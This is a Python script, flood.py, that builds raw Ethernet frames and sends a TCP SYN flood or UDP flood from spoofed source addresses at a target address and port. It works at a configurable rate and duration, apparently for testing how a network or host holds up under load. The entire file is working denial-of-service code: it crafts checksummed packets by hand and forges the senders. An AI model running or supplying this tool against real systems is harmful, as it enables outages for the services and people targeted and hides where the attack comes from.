# SPDX-License-Identifier: BSD-3-Clause
"""flood.py INTERFACE MAC tcp|udp ADDRESS PORT SECONDS RATE: SYNs, or UDP datagrams, of ever other made-up sources.

RATE: packets a second, 0 for as many as the machine gives.
"""

import socket
import struct
import sys
import time

FRAMES = 100_000  # different ones; then they come again

interface, mac, protocol, address, port, seconds, rate = sys.argv[1:]
destination = socket.inet_aton(address)
number = {"tcp": 6, "udp": 17}[protocol]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(n):
    source = struct.pack("!I", 0xAC100000 + n * 7)  # in 172.16.0.0/12
    from_port = 1024 + n % 60000
    if protocol == "tcp":
        l4 = bytearray(struct.pack("!HHIIBBHHH", from_port, int(port), n, 0, 5 << 4, 2, 64240, 0, 0))
        struct.pack_into("!H", l4, 16, checksum(source + destination + struct.pack("!HH", number, len(l4)) + l4))
    else:
        l4 = struct.pack("!HHHH", from_port, int(port), 12, 0) + b"made"
    ip = bytearray(struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(l4), n & 0xFFFF, 0, 64, number, 0) + source + destination)
    struct.pack_into("!H", ip, 10, checksum(ip))
    return bytes.fromhex(mac.replace(":", "")) + b"\2\0\0\0\0\x99" + b"\x08\0" + ip + l4


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
frames = [frame(n) for n in range(FRAMES)]
print("flooding", flush=True)
start = time.monotonic()
sent, end = 0, start + float(seconds)
while (now := time.monotonic()) < end:
    if int(rate) and sent > int(rate) * (now - start):
        time.sleep(0.001)
        continue
    for n in range(sent, sent + 100):
        try:
            wire.send(frames[n % FRAMES])
        except OSError:
            pass  # the interface's queue is full
    sent += 100
print(f"sent {sent}", flush=True)
